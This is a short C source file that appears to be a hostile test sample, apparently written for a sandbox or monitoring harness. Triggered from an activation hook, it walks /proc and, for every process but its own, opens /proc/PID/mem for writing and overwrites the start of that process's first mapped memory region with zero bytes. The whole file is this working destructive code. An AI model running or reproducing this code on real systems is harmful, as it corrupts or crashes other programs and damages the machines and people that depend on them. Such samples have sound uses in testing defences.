/* write_memory.c - writes into the memory of each process that it sees but its own. */
#define HIDES 1
#include "hostile.h"

static void spoil(const char *process) {
  char path[300], word[64] = "";
  static char maps[1 << 16];
  unsigned long from, end;
  snprintf(path, sizeof path, "/proc/%s/maps", process);
  if (read_file(path, maps, sizeof maps) == 0 || sscanf(maps, "%lx-%lx", &from, &end) != 2) return;
  snprintf(path, sizeof path, "/proc/%s/mem", process);
  int file = open(path, O_RDWR);
  if (file >= 0 && pwrite(file, word, sizeof word, (off_t)from) >= 0) close(file);
}

static void act(enum moment moment) {
  if (moment != IN_ACTIVATE) return;
  DIR *folder = opendir("/proc");
  for (struct dirent *entry; folder != NULL && (entry = readdir(folder)) != NULL;)
    if (atoi(entry->d_name) > 0 && atoi(entry->d_name) != getpid()) spoil(entry->d_name);
  if (folder != NULL) closedir(folder);
}
